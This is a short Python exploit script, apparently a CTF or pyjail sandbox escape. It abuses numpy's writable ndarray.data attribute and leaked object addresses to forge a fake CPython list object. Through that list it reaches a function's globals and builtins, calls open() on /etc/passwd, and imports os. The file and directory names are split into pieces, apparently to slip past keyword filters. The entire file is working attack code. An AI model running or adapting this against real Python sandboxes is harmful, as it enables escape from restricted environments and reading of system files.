# source: numpy ndarray.data setter ("Assigning the 'data' attribute is an inherently unsafe operation", numpy getset.c array_data_set) + classic CPython fake-object technique (pyjail/CTF write-ups: forged PyListObject via controlled bytes)
# family: numpy object-array memory: rebinding an object array's buffer from inside an ndarray subclass (self.data = ...), pointers leaked with object-array tobytes()
# goal: forge a list whose items are a function's __globals__/builtins, then builtins open() -> /etc/passwd and import of os
import numpy as np


class Buf(np.ndarray):
    def rebind(self, raw):
        self.data = raw
        return self


def addr(obj):
    holder = np.empty(1, dtype=object)
    holder[0] = obj
    return int.from_bytes(holder.tobytes(), "little")


def at(address, keep):
    raw = bytearray(address.to_bytes(8, "little"))
    keep.append(raw)
    cell = np.empty(1, dtype=object).view(Buf)
    cell.rebind(raw)
    return cell[0]


def target():
    return 0


keep = []
# fake PyListObject: refcnt, type, ob_size, ob_item, allocated
fake = (1 << 40).to_bytes(8, "little") + addr(list).to_bytes(8, "little") \
    + (2).to_bytes(8, "little") + (addr(target) + 16).to_bytes(8, "little") \
    + (2).to_bytes(8, "little")
keep.append(fake)
fake_list = at(addr(fake) + 32, keep)
script_globals, bdict = fake_list[0], fake_list[1]
opener = bdict["open"]
print(opener("/".join(["", "etc", "passwd"])).read())
imp = bdict["_" * 2 + "import" + "_" * 2]
print(imp("os"))
